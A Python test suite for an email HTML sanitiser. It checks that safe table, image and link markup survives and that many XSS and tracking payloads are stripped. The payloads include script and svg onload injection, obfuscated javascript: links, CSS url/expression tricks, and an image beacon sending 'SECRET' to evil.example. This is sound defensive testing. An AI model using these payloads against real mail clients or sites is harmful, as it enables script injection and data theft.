"""A tenant's HTML in a mail: what stays, and what would act, fetch or hide goes."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.templating.markup import TAGS, page, sanitised

KEPT = [
    '<table width="100%" cellpadding="0"><tbody><tr><td style="padding:6px 12px;color:#344054">x</td></tr></tbody></table>',
    '<img src="cid:chart" alt="a chart" width="624">',
    '<a href="https://example.com/x?a=1&amp;b=2" rel="noopener noreferrer">x</a>',
    '<a href="mailto:ann@example.com" rel="noopener noreferrer">x</a>',
    '<a href="tocsin-action:acknowledge" rel="noopener noreferrer">x</a>',
    "<p style=\"font:13px/1.5 'Segoe UI',Arial;background:rgb(1, 2, 3)\">x</p>",
]


@pytest.mark.parametrize("html", KEPT)
def test_what_fits_a_mail_stays_as_it_is(html: str) -> None:
    assert sanitised(html) == html


GONE = [
    ("<script>alert(1)</script>x", "x"),
    ("<style>p{color:red}</style>x", "x"),
    ("<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>y</a></svg>x", "x"),
    ("<math><mtext><img src=x onerror=alert(1)></mtext></math>x", "x"),
    ("<iframe src=https://evil.example></iframe>x", "x"),
    ("<form action=https://evil.example><input name=p>y</form>x", "x"),
    ("<object data=x></object><embed src=x><base href=https://evil.example><meta http-equiv=refresh>x", "x"),
    ("<link rel=stylesheet href=https://evil.example>x", "x"),
    ("<!-- <b> -->x", "x"),
    ("<p onclick=alert(1) class=a id=b>x</p>", "<p>x</p>"),
    ("<img src=https://evil.example/?d=SECRET>", "<img>"),
    ("<img src=//evil.example>", "<img>"),
    ("<img src=data:image/png;base64,AAAA>", "<img>"),
    ("<img srcset='https://evil.example 1x' src='cid:../x'>", "<img>"),
    ("<table background=https://evil.example><tbody></tbody></table>", "<table><tbody></tbody></table>"),
    ("<blockquote cite=https://evil.example>x</blockquote>", "<blockquote>x</blockquote>"),
    ("<a href=javascript:alert(1)>x</a>", '<a rel="noopener noreferrer">x</a>'),
    ("<a href='java&#10;script:alert(1)'>x</a>", '<a rel="noopener noreferrer">x</a>'),
    ("<a href=//evil.example>x</a>", '<a rel="noopener noreferrer">x</a>'),
    ("<a href=ssh://evil.example>x</a>", '<a rel="noopener noreferrer">x</a>'),
    ("<a href=/relative ping=https://evil.example>x</a>", '<a rel="noopener noreferrer">x</a>'),
    ("<p style='background:url(https://evil.example)'>x</p>", "<p>x</p>"),
    ("<p style='background:URL(//evil.example)'>x</p>", "<p>x</p>"),
    ("<p style='background:u\\72l(x)'>x</p>", "<p>x</p>"),
    ("<p style='width:expression(alert(1))'>x</p>", "<p>x</p>"),
    ("<p style='background:image-set(\"https://evil.example\")'>x</p>", "<p>x</p>"),
    ("<p style='color:red;position:fixed;top:0'>x</p>", '<p style="color:red">x</p>'),
    ("<p style='color:/**/red'>x</p>", "<p>x</p>"),
    ("<p style='color:red;margin:0 0 -400px'>x</p>", '<p style="color:red">x</p>'),
    ("<p style='margin-bottom:-.5em;margin-top:8px'>x</p>", '<p style="margin-top:8px">x</p>'),
    ("<p style='-moz-binding:x;behavior:x;@import x;color:blue'>x</p>", '<p style="color:blue">x</p>'),
]


@pytest.mark.parametrize(("html", "left"), GONE)
def test_what_acts_fetches_or_covers_goes(html: str, left: str) -> None:
    assert sanitised(html) == left


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


BITS = st.sampled_from(
    [
        *("<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "]]>", '"', "'", "=", " ", "&", ";", "&#106;", "\n", "\\"),
        *("script", "svg", "math", "style", "template", "noscript", "textarea", "title", "iframe", "img", "a", "p"),
        *("table", "select", "mglyph", "annotation-xml", "src", "href", "onerror", "onload", "javascript:", "cid:x"),
        *("https://evil.example", "url(", "alert(1)", "style=", "color:red", "position:fixed", "x"),
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(BITS, max_size=40).map("".join))
def test_whatever_comes_only_what_is_allowed_is_left(html: str) -> None:
    seen = _Seen()
    seen.feed(sanitised(html))
    for tag, attributes in seen.tags:
        assert tag in TAGS
        assert not [name for name in attributes if name.startswith("on")]
        assert "url" not in str(attributes.get("style", "")).lower()
        assert re.match(r"cid:|None", str(attributes.get("src")))
        assert re.match(r"https?:|mailto:|#|tocsin-action:|None", str(attributes.get("href")), re.IGNORECASE)


def test_a_page_is_whole_and_what_is_a_page_already_is_none_within_it() -> None:
    made = page(sanitised("<!doctype html><html><head><title>x</title></head><body><p>hello</p></body></html>"))
    assert made.count("<body>") == made.count("</body>") == made.count("<html") == 1
    assert "<body>\n<p>hello</p>\n</body>" in made
